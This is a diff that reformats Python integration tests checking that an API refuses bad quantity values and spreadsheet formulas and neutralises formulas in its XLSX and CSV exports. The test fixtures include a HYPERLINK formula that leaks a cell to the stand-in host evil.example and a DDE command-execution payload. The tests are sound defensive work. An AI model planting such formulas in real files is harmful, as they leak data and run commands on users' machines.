@@ -24,8 +24,19 @@ from tests.security.world import build_world
 
 pytestmark = pytest.mark.integration
 
-BAD_QUANTITIES = ["NaN", "nan", "inf", "-Infinity", "1e309", "99999999999999999999",
-                  "=1+1", "@SUM(A1)", "5.5", "0x10", ""]
+BAD_QUANTITIES = [
+    "NaN",
+    "nan",
+    "inf",
+    "-Infinity",
+    "1e309",
+    "99999999999999999999",
+    "=1+1",
+    "@SUM(A1)",
+    "5.5",
+    "0x10",
+    "",
+]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
@@ -61,8 +72,11 @@ def test_nan_and_infinities_are_refused_in_json_bodies_too(
             f'{{"item_id": "{world.ids["item"]}", "location_id": "{world.ids["location"]}", '
             f'"quantity": {quantity}, "need_by": "2099-01-01", "priority": "normal"}}'
         )
-        response = client.post(url, content=body, headers=world.headers("local_team/own")
-                               | {"content-type": "application/json"})
+        response = client.post(
+            url,
+            content=body,
+            headers=world.headers("local_team/own") | {"content-type": "application/json"},
+        )
         assert response.status_code == 422, (quantity, response.text)
     solve = client.post(
         "/api/v1/solve",
@@ -82,9 +96,14 @@ def test_a_formula_in_an_uploaded_cell_is_refused_unless_escaped(
     rows = f"{world.ids['item']},{world.ids['location']},5,2099-01-01,normal"
     refused = client.post(
         url,
-        files={"file": ("f.csv", f"item,location,quantity,need_by,priority,justification\n"
-                        f"{rows},\"{FORMULA.replace(chr(34), chr(34) * 2)}\"\n".encode(),
-                        "text/csv")},
+        files={
+            "file": (
+                "f.csv",
+                f"item,location,quantity,need_by,priority,justification\n"
+                f'{rows},"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'.encode(),
+                "text/csv",
+            )
+        },
         headers=headers,
     )
     assert refused.status_code == 422, refused.text
@@ -98,9 +117,15 @@ def test_formulas_that_came_in_by_the_api_are_neutralised_in_every_export(
     # Text typed into the JSON API is stored as it is...
     need = client.post(
         f"/api/v1/rounds/{world.ids['open']}/needs",
-        json={"item_id": world.ids["item"], "location_id": world.ids["location"],
-              "quantity": 3, "need_by": "2099-01-01", "priority": "high",
-              "justification": FORMULA, "submit": True},
+        json={
+            "item_id": world.ids["item"],
+            "location_id": world.ids["location"],
+            "quantity": 3,
+            "need_by": "2099-01-01",
+            "priority": "high",
+            "justification": FORMULA,
+            "submit": True,
+        },
         headers=world.headers("local_team/own"),
     )
     assert need.status_code == 201, need.text
@@ -123,21 +148,29 @@ def test_a_formula_in_a_catalogue_name_is_text_in_the_plan_exports(
     assert item is not None
     item.name = "=cmd|' /C calc'!A0"
     session.commit()
-    rerun = client.post(f"/api/v1/rounds/{world.ids['done']}/runs",
-                        headers=world.headers("coordinator"))
+    rerun = client.post(
+        f"/api/v1/rounds/{world.ids['done']}/runs", headers=world.headers("coordinator")
+    )
     assert rerun.status_code == 201, rerun.text
     run = rerun.json()["id"]
     headers = world.headers("chief_of_mission/other")
 
-    workbook = load_workbook(io.BytesIO(
-        client.get(f"/api/v1/runs/{run}/plan.xlsx", headers=headers).content))
-    risky = [c for ws in workbook for row in ws.iter_rows() for c in row
-             if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+    workbook = load_workbook(
+        io.BytesIO(client.get(f"/api/v1/runs/{run}/plan.xlsx", headers=headers).content)
+    )
+    risky = [
+        c
+        for ws in workbook
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
+    ]
     assert all(c.data_type == "s" and c.quotePrefix for c in risky), [
         (c.coordinate, c.value) for c in risky if not c.quotePrefix
     ]
-    archive = zipfile.ZipFile(io.BytesIO(
-        client.get(f"/api/v1/runs/{run}/plan-csv.zip", headers=headers).content))
+    archive = zipfile.ZipFile(
+        io.BytesIO(client.get(f"/api/v1/runs/{run}/plan-csv.zip", headers=headers).content)
+    )
     for name in archive.namelist():
         for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))):
             for cell in row:
